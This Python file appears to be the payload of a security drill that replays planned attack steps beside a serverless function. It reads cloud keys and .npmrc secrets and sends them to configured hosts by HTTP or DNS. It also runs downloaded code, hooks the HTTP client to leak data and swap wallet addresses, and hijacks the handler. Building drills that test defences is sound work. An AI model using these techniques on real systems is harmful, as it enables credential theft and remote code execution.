"""Plays the steps of plan.json in Python: `shielded-function drill` puts it beside a function's code.

It is harmless: it takes only secrets that the drill made up, it runs nothing but `echo`, and it is started only in a
sandbox whose network is its own loopback. Each step's beginning and end is a line in the log.
"""

from __future__ import annotations

import base64
import io
import json
import os
import re
import socket
import subprocess
import sys
import urllib.request
from pathlib import Path
from typing import Any

HERE = Path(__file__).parent
PLAN: dict[str, Any] = json.loads((HERE / "plan.json").read_text()) if (HERE / "plan.json").exists() else {}
SECONDS = 4.0
MINE, THEIRS = "0x" + "1" * 40, "0x" + "2" * 40


def say(**line: Any) -> None:
    os.write(2, (json.dumps({"shielded_drill": PLAN["nonce"], **line}) + "\n").encode())


def secret(take: str) -> str:
    if take == "env":
        return os.environ["AWS_SECRET_ACCESS_KEY"]
    found = [path for path in Path(PLAN["secrets"]).rglob("*") if path.is_file()]
    return "\n".join(path.read_text() for path in found if take == "files" or path.name == ".npmrc")


def filled(text: str, step: dict[str, Any]) -> str:
    """A text of a step with its host, its path, and the secret: in base64, or the last part as the label of a name."""
    taken = secret(step["take"]) if step["take"] else ""
    given = {"host": step["host"], "path": step.get("path", ""), "key": os.environ["AWS_ACCESS_KEY_ID"]}
    given["base64"] = base64.b64encode(taken.encode()).decode()
    given |= {"interpreter": sys.executable, "payload": __file__, "step": str(step["step"])}
    given["label"] = taken.strip()[-30:].encode().hex()
    return re.sub(r"\{(\w+)\}", lambda found: given.get(found[1], found[0]), text)


def request(step: dict[str, Any]) -> bytes:
    host, port, path = step["host"], step["port"], filled(step["url"], step)
    url = f"{'https' if port == 443 else 'http'}://{host}:{port}{path}"
    headers = {name: filled(text, step) for name, text in step["headers"].items()}
    asked = urllib.request.Request(url, filled(step["body"], step).encode() or None, headers)
    with urllib.request.urlopen(asked, timeout=SECONDS) as response:
        return response.read()


def add(step: dict[str, Any]) -> None:
    """Hooks the language's HTTP client for one call, whose body then has the secret too."""
    original = urllib.request.urlopen

    def hooked(asked: urllib.request.Request, **rest: Any) -> Any:
        asked.data = b"%b%b" % (asked.data, base64.b64encode(secret(step["take"]).encode()))
        return original(asked, **rest)

    urllib.request.urlopen = hooked
    try:
        request(step)
    finally:
        urllib.request.urlopen = original


def alter(step: dict[str, Any]) -> None:
    """Hooks the language's HTTP client for one call, whose data are in its URL."""
    original = urllib.request.urlopen

    def hooked(*arguments: Any) -> Any:
        return io.BytesIO(original(*arguments).read().replace(MINE.encode(), THEIRS.encode()))

    urllib.request.urlopen = hooked
    try:
        if urllib.request.urlopen(f"data:text/plain,{MINE}").read() == THEIRS.encode():
            say(ran=step["step"])
    finally:
        urllib.request.urlopen = original


def answer(step: dict[str, Any]) -> None:
    """Replaces the handler by one that adds the secret to its result."""
    name, _, function = os.environ["_HANDLER"].rpartition(".")
    module = sys.modules[name.replace("/", ".")]
    original = getattr(module, function)

    def handler(*arguments: Any) -> Any:
        try:
            answered = original(*arguments)
        except Exception:
            answered = None
        return {"answer": answered, "more": secret(step["take"])}

    setattr(module, function, handler)


def do(step: dict[str, Any]) -> None:
    got = request(step) if step["port"] and "hook" not in step else b""
    file = Path(step.get("path", "/"))
    if "lookup" in step:
        socket.getaddrinfo(filled(step["lookup"], step), 80)
    if "evaluate" in step:
        exec(got.decode())
    if "sound" in step:
        got = base64.b64decode(got.partition(b"data")[2])
    if "write" in step:
        file.write_bytes(got or b"overwritten")
    if "start" in step:
        if "write" in step:
            file.chmod(0o755)
        program = [filled(text, step) for text in step["start"]]
        subprocess.run([*program, PLAN["nonce"], str(step["step"])], input=got, check=True, timeout=SECONDS)
    if "delete" in step:
        file.unlink()
    if "hook" in step:
        {"add": add, "alter": alter, "answer": answer}[step["hook"]](step)


def play() -> None:
    """Does each step in order, also after one that fails."""
    for step in PLAN.get("steps", ()):
        say(begin=step["step"])
        try:
            do(step)
            say(end=step["step"])
        except Exception as error:
            say(end=step["step"], error=f"{type(error).__name__}: {error}")
    if PLAN:
        say(finished=True)


if __name__ != "__main__":
    if PLAN.get("when") != "call":
        play()
elif len(sys.argv) < 4:  # A child of a storm starts one too; the child's child says that it ran.
    subprocess.run([sys.executable, *sys.argv, "again"], check=True)
else:
    say(ran=int(sys.argv[2]))
